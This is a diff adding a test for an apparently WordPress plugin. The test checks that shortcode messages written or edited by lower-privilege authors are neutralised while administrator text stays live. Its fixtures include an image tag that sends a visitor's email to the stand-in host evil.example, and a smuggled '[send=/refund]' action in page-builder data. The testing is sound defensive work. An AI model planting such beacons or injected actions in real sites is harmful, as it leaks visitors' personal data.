@@ -323,3 +323,69 @@ test( 'an author reaches only the visitor’s own tokens', async ( { site } ) =>
 	} );
 	expect( identity.user.hash ).not.toBe( 'a'.repeat( 32 ) );
 } );
+
+test( 'a text is of who wrote it, also in somebody else’s post', async ( {
+	site,
+} ) => {
+	await site.reset();
+	const messages = await inPhp(
+		site,
+		`require_once ABSPATH . 'wp-admin/includes/user.php';
+		$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) );
+		$as     = static function ( int $user, array $post, string $text = 'A' ): int {
+			wp_set_current_user( $user );
+			$post += array( 'post_content' => "[known_visitor]$text [img]https://evil.example/{email}[/img][/known_visitor]", 'post_title' => 'Text', 'post_status' => 'publish' );
+			return isset( $post['ID'] ) ? wp_update_post( $post ) : wp_insert_post( $post );
+		};
+		$message = static fn ( int $id ) => \\KnownVisitor\\Page\\Post_Override::of( get_post( $id ) )->template;
+
+		$edited = $as( 1, array( 'post_author' => 1 ) );
+		$found['an administrator’s'] = $message( $edited );
+		$as( $author, array( 'ID' => $edited ), 'B' );
+		$found['edited by an author'] = $message( $edited );
+		$as( 1, array( 'ID' => $edited, 'post_title' => 'Another title' ), 'B' );
+		$found['its title changed by an administrator'] = $message( $edited );
+		$as( 1, array( 'ID' => $edited ), 'C' );
+		$found['written anew by an administrator'] = $message( $edited );
+		wp_set_current_user( 0 );
+		wp_publish_post( $edited );
+		$found['published by nobody'] = $message( $edited );
+
+		$built = $as( 1, array( 'post_author' => 1, 'post_content' => 'Built' ) );
+		wp_set_current_user( $author );
+		update_post_meta( $built, '_elementor_data', wp_slash( wp_json_encode( array( '[known_visitor][send=/refund]Built[/send][/known_visitor]' ) ) ) );
+		wp_update_post( array( 'ID' => $built ) );
+		$found['in a page builder, by an author'] = $message( $built );
+
+		$pattern = $as( $author, array( 'post_type' => 'wp_block', 'post_author' => 1 ), 'Pattern' );
+		$found['a pattern edited by an author'] = $message( $as( 1, array( 'post_author' => 1, 'post_content' => '<!-- wp:block {"ref":' . $pattern . '} /-->' ) ) );
+
+		$own   = $as( $author, array( 'post_author' => $author ), 'Own' );
+		$given = $as( $author, array( 'post_author' => $author ), 'Given' );
+		$mute  = $as( $author, array( 'post_author' => $author, 'post_content' => 'Without a word.' ) );
+		wp_set_current_user( 1 );
+		wp_update_post( array( 'ID' => $given, 'post_author' => 1 ) );
+		wp_delete_user( $author, 1 );
+		$found['of an author who is gone']       = $message( $own );
+		$found['given to an administrator']      = $message( $given );
+		$found['meta of a post without a word'] = preg_grep( '/known_visitor/', array_keys( get_post_meta( $mute ) ) );
+		return $found;`
+	);
+
+	const typed = ( text: string ) =>
+		`${ text } [img]https://evil.example/{email}[/img]`;
+	const harmless = ( text: string ) =>
+		`${ text } ［img］https:／／evil．example／{email}［/img］`;
+	expect( messages ).toEqual( {
+		'an administrator’s': typed( 'A' ),
+		'edited by an author': harmless( 'B' ),
+		'its title changed by an administrator': harmless( 'B' ),
+		'written anew by an administrator': typed( 'C' ),
+		'published by nobody': typed( 'C' ),
+		'in a page builder, by an author': '［send=/refund］Built［/send］',
+		'a pattern edited by an author': harmless( 'Pattern' ),
+		'of an author who is gone': harmless( 'Own' ),
+		'given to an administrator': harmless( 'Given' ),
+		'meta of a post without a word': [],
+	} );
+} );
